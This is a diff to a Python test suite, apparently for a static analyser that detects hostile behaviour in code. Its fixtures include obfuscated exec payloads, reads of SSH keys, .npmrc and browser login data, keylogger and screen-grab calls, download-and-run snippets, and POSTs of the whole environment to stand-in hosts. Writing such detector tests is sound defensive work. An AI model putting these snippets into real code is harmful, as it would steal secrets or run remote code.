@@ -58,7 +58,10 @@ SHELL = ("shell", "id")
         'import os\nglobals()["os"].system("id")',
         'import posix\nposix.system("id")',
         'import os\nclass A:\n    run = os.system\nA().run("id")',
-        'import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n    def go(self):\n        self.f("id")',
+        (
+            "import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n"
+            '    def go(self):\n        self.f("id")'
+        ),
         'import os\n[os.system(x) for x in ["id"]]',
         'import os\nd = {"a": os.system}\nd["a"]("id")',
         'import os\nl = [os.system]\nl[0]("id")',
@@ -100,18 +103,42 @@ def test_shell_in_all_spellings(text: str) -> None:
         ('import requests\nrequests.get("https://api.host.invalid/x")', ("network", "api.host.invalid")),
         ('import requests as r\nr.post(url="https://api.host.invalid")', ("network", "api.host.invalid")),
         ('from requests import get\nget("https://api.host.invalid")', ("network", "api.host.invalid")),
-        ('import requests\ns = requests.Session()\ns.put("https://api.host.invalid")', ("network", "api.host.invalid")),
-        ('import requests\nwith requests.session() as s:\n    s.get("https://api.host.invalid")', ("network", "api.host.invalid")),
-        ('from urllib.request import urlopen, Request\nurlopen(Request("https://api.host.invalid"))', ("network", "api.host.invalid")),
+        (
+            ('import requests\ns = requests.Session()\ns.put("https://api.host.invalid")'),
+            ("network", "api.host.invalid"),
+        ),
+        (
+            ('import requests\nwith requests.session() as s:\n    s.get("https://api.host.invalid")'),
+            ("network", "api.host.invalid"),
+        ),
+        (
+            ('from urllib.request import urlopen, Request\nurlopen(Request("https://api.host.invalid"))'),
+            ("network", "api.host.invalid"),
+        ),
         ('import urllib2\nurllib2.urlopen("https://api.host.invalid")', ("network", "api.host.invalid")),
-        ('import socket\ns = socket.socket()\ns.connect(("api.host.invalid", 80))', ("network", "api.host.invalid")),
-        ('import httpx\nasync def f():\n    async with httpx.AsyncClient() as c:\n        await c.get("https://api.host.invalid")', ("network", "api.host.invalid")),
-        ('import http.client\nc = http.client.HTTPSConnection("api.host.invalid")', ("network", "api.host.invalid")),
+        (
+            'import socket\ns = socket.socket()\ns.connect(("api.host.invalid", 80))',
+            ("network", "api.host.invalid"),
+        ),
+        (
+            (
+                "import httpx\nasync def f():\n    async with httpx.AsyncClient() as c:\n"
+                '        await c.get("https://api.host.invalid")'
+            ),
+            ("network", "api.host.invalid"),
+        ),
+        (
+            'import http.client\nc = http.client.HTTPSConnection("api.host.invalid")',
+            ("network", "api.host.invalid"),
+        ),
         ('import os\nos.environ["NPM_TOKEN"]', ("environment", "NPM_TOKEN")),
         ('from os import environ as e\ne.get("NPM_TOKEN")', ("environment", "NPM_TOKEN")),
         ('import os\nos.getenv("NPM_" + "TOKEN")', ("environment", "NPM_TOKEN")),
         ('import os\nx = os.environ\nx["NPM_TOKEN"]', ("environment", "NPM_TOKEN")),
-        ("import os, json\njson.dumps(dict(os.environ))\nfor k in os.environ: pass", ("environment-bulk", "*")),
+        (
+            ("import os, json\njson.dumps(dict(os.environ))\nfor k in os.environ: pass"),
+            ("environment-bulk", "*"),
+        ),
         ("import os\nprint(os.environ)", ("environment-bulk", "*")),
         ("import os\nos.environ.items()", ("environment-bulk", "*")),
         ('exec(open("x").read())', ("dynamic-code", "built")),
@@ -124,25 +151,34 @@ def test_shell_in_all_spellings(text: str) -> None:
         ("import marshal\nmarshal.loads(x)", ("bytecode", "marshal.loads")),
         ("import pickle\npickle.loads(x)", ("dynamic-code", "built")),
         ("import ctypes\nctypes.CDLL('x.so')", ("native-code", "ctypes.CDLL")),
-        ("from ctypes import windll\nwindll.kernel32.VirtualAlloc(0)", ("native-code", "ctypes.windll.kernel32.VirtualAlloc")),
-        ("open('/tmp/x', 'w')", ("filesystem-write", "/tmp/x")),
+        (
+            "from ctypes import windll\nwindll.kernel32.VirtualAlloc(0)",
+            ("native-code", "ctypes.windll.kernel32.VirtualAlloc"),
+        ),
+        ("open('/opt/y', 'w')", ("filesystem-write", "/opt/y")),
         ("from pathlib import Path\nPath('/opt/x').write_text('y')", ("filesystem-write", "/opt/x")),
         ("import shutil\nshutil.rmtree('/opt/x')", ("filesystem-delete", "/opt/x")),
-        ("from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()", ("credentials", ".ssh/id_rsa")),
+        (
+            ("from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()"),
+            ("credentials", ".ssh/id_rsa"),
+        ),
         ("import os\nopen(os.path.expanduser('~/.npmrc')).read()", ("credentials", ".npmrc")),
         ("import os\nopen(os.path.join(os.path.expanduser('~'), '.np' + 'mrc'))", ("credentials", ".npmrc")),
         ("import keyring\nkeyring.get_password('a', 'b')", ("credentials", "keyring.get_password")),
         ("import platform\nplatform.node()", ("system-information", "platform.node")),
         ("import pyperclip\npyperclip.paste()", ("clipboard", "pyperclip.paste")),
         ("from PIL import ImageGrab\nImageGrab.grab()", ("screen", "PIL.ImageGrab.grab")),
-        ("from pynput.keyboard import Listener\nListener(on_press=f)", ("keyboard", "pynput.keyboard.Listener")),
+        (
+            "from pynput.keyboard import Listener\nListener(on_press=f)",
+            ("keyboard", "pynput.keyboard.Listener"),
+        ),
         ("import builtins\nbuiltins.open = f", ("module-tampering", "builtins.open")),
-        ("import sys\nsys.modules['x'] = y", ("module-tampering", "sys.modules.__setitem__")),
+        ("import sys\nsys.modules['requests'] = y", ("module-tampering", "sys.modules.__setitem__")),
         ("import sys\nsys.meta_path.insert(0, x)", ("module-tampering", "sys.meta_path.insert")),
         ("import sentry_sdk\nsentry_sdk.init()", ("telemetry", "sentry_sdk.init")),
         ("exec 'import os'", ("dynamic-code", "built")),
     ],
-)  # fmt: skip
+)
 def test_idioms(text: str, expected: tuple[str, str]) -> None:
     if text == "exec 'import os'":
         assert [use.name for use in program(text.encode(), "a.py").uses] == ["exec"]
@@ -175,7 +211,11 @@ def test_silent(text: str) -> None:
 
 
 def test_environment_of_a_child_is_not_sent() -> None:
-    text = 'import os, subprocess\nenv = {**os.environ, "A": "b"}\nsubprocess.run(["git"], env=env)\nsubprocess.run(["git"], env=dict(os.environ))\n'
+    text = (
+        'import os, subprocess\nenv = {**os.environ, "A": "b"}\n'
+        'subprocess.run(["git"], env=env)\n'
+        'subprocess.run(["git"], env=dict(os.environ))\n'
+    )
     assert told(text) == {("process", "git")}
 
 
@@ -196,7 +236,10 @@ def test_secrets_flow_through_the_file() -> None:
 def test_whole_environment_is_sent() -> None:
     text = 'import os, requests\nrequests.post("https://collect.invalid", json=dict(os.environ))\n'
     assert ("exfiltration", "environment -> collect.invalid") in told(text)
-    text = 'import os\nfrom urllib import request, parse\nrequest.urlopen("https://collect.invalid", parse.urlencode({**os.environ}).encode())\n'
+    text = (
+        "import os\nfrom urllib import request, parse\n"
+        'request.urlopen("https://collect.invalid", parse.urlencode({**os.environ}).encode())\n'
+    )
     assert ("exfiltration", "environment -> collect.invalid") in told(text)
 
 
@@ -208,8 +251,14 @@ PAYLOAD = b"import os\nos.system('id')\n"
     [
         f"import base64\nexec(base64.b64decode({base64.b64encode(PAYLOAD)!r}))",
         f"exec(bytes.fromhex({PAYLOAD.hex()!r}).decode())",
-        f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(PAYLOAD))!r})))",
-        f"import base64 as b\nd = b.b64decode\nx = {base64.b64encode(PAYLOAD).decode()!r}\nexec(compile(d(x), '', 'exec'))",
+        (
+            f"import zlib, base64\n"
+            f"exec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(PAYLOAD))!r})))"
+        ),
+        (
+            f"import base64 as b\nd = b.b64decode\n"
+            f"x = {base64.b64encode(PAYLOAD).decode()!r}\nexec(compile(d(x), '', 'exec'))"
+        ),
         "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\\x22vq\\x22)', 'rot13'))",
         f"exec(''.join(chr(c) for c in {list(PAYLOAD)}))",
         f"exec(''.join(map(chr, {list(PAYLOAD)})))",
@@ -217,7 +266,10 @@ PAYLOAD = b"import os\nos.system('id')\n"
         f"exec({PAYLOAD.decode()[::-1]!r}[::-1])",
         f"exec(''.join(reversed({PAYLOAD.decode()[::-1]!r})))",
         f"__import__('builtins').exec(__import__('base64').b64decode({base64.b64encode(PAYLOAD).decode()!r}))",
-        f"_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)({base64.b64encode(zlib.compress(PAYLOAD))[::-1]!r}))",
+        (
+            f"_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
+            f"exec((_)({base64.b64encode(zlib.compress(PAYLOAD))[::-1]!r}))"
+        ),
     ],
 )
 def test_payloads_are_read_like_code(text: str) -> None:
@@ -260,26 +312,30 @@ def test_phases(text: str, phase: str) -> None:
     assert phases(text)["shell"] == phase
 
 
+FETCHED_BESIDE = """import tempfile, os, urllib.request as u
+with tempfile.NamedTemporaryFile() as out:
+    out.write(u.urlopen("https://h.invalid/x").read())
+os.system(out.name)
+"""
+FETCHED_TO = """import os, urllib.request as u
+u.urlretrieve("https://h.invalid/x", "x.exe")
+os.startfile("x.exe")
+"""
+ASKED = """import http.client, os
+c = http.client.HTTPSConnection("h.invalid")
+c.request("POST", "/", body=repr(os.environ))
+"""
+
+
 @pytest.mark.parametrize(
     ("text", "expected"),
     [
         ('open(f"/proc/{pid}/mem", "rb", 0)', ("credentials", "/proc/PID/mem")),
         ("import os\nprint(str(dict(os.environ)))", ("environment-bulk", "*")),
         ('import shutil\nshutil.copy2(home + "/Default/Login Data", "x")', ("credentials", "Login Data")),
-        (
-            "import tempfile, os, urllib.request as u\nwith tempfile.NamedTemporaryFile() as out:\n"
-            '    out.write(u.urlopen("https://h.invalid/x").read())\nos.system(out.name)',
-            ("download-and-run", "h.invalid -> os.system"),
-        ),
-        (
-            'import os, urllib.request as u\nu.urlretrieve("https://h.invalid/x", "/tmp/x")\nos.startfile("/tmp/x")',
-            ("download-and-run", "/tmp/x -> os.startfile"),
-        ),
-        (
-            'import http.client, os\nc = http.client.HTTPSConnection("h.invalid")\n'
-            'c.request("POST", "/", body=repr(os.environ))',
-            ("exfiltration", "environment -> h.invalid"),
-        ),
+        (FETCHED_BESIDE, ("download-and-run", "h.invalid -> os.system")),
+        (FETCHED_TO, ("download-and-run", "x.exe -> os.startfile")),
+        (ASKED, ("exfiltration", "environment -> h.invalid")),
         (
             'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import os; os.remove(\'/x\')"])',
             ("filesystem-delete", "/x"),
@@ -370,10 +426,51 @@ def test_hostile_text_ends_soon(data: bytes) -> None:
 
 
 _WORDS = st.sampled_from(
-    ["import os\n", "os.system(", "'id'", ")", "(", "exec", "[", "]", "x = ", "\n", "  ", "def f(a):\n ", "lambda x:", "f'{x}'",
-     "getattr(os, ", "class A(", ":", "+", "%", "self.", "@", "from os import *\n", "{", "}", "for x in ", "\\", "'''", "*", "**", "#", "\0",
-     "if __name__ == '__main__':\n", "with open(", " as f", "b64decode", "import base64\n", "é", "[::-1]", "return ", "yield ", ", ", "\t"]
-)  # fmt: skip
+    [
+        "import os\n",
+        "os.system(",
+        "'id'",
+        ")",
+        "(",
+        "exec",
+        "[",
+        "]",
+        "x = ",
+        "\n",
+        "  ",
+        "def f(a):\n ",
+        "lambda x:",
+        "f'{x}'",
+        "getattr(os, ",
+        "class A(",
+        ":",
+        "+",
+        "%",
+        "self.",
+        "@",
+        "from os import *\n",
+        "{",
+        "}",
+        "for x in ",
+        "\\",
+        "'''",
+        "*",
+        "**",
+        "#",
+        "\0",
+        "if __name__ == '__main__':\n",
+        "with open(",
+        " as f",
+        "b64decode",
+        "import base64\n",
+        "é",
+        "[::-1]",
+        "return ",
+        "yield ",
+        ", ",
+        "\t",
+    ]
+)
 
 
 @settings(max_examples=100, deadline=None)
